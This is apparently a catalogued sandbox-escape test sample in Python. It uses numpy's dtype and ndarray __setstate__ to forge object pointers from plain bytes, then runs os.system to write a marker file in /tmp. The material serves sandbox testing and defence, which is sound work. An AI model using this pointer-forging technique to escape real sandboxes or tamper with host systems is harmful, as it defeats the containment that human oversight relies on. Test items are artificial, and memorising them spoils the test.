# escape: 304
# packages: numpy
# technique: dtype.__setstate__ and ndarray.__setstate__ make plain bytes into object pointers
# family: memory
# goal: tamper
# first-seen: numpy pickling state
import numpy as np, os
d = np.dtype("O")
state = list(np.dtype([("a", "O")]).__reduce__()[2])
try:
    state[-1] = 0
    fake = np.dtype([("a", "O")])
    fake.__setstate__(tuple(state))
    print(np.frombuffer(b"\1" * 8, dtype=fake)[0])
except Exception: pass
try:
    x = np.zeros(1, dtype="u8")
    x.__setstate__((1, (1,), np.dtype("O"), False, [1]))
    x.__setstate__((1, (4,), np.dtype("O"), False, b"\1" * 32))
    print(x[0])
except Exception: pass
os.system("echo > /tmp/escape-304")
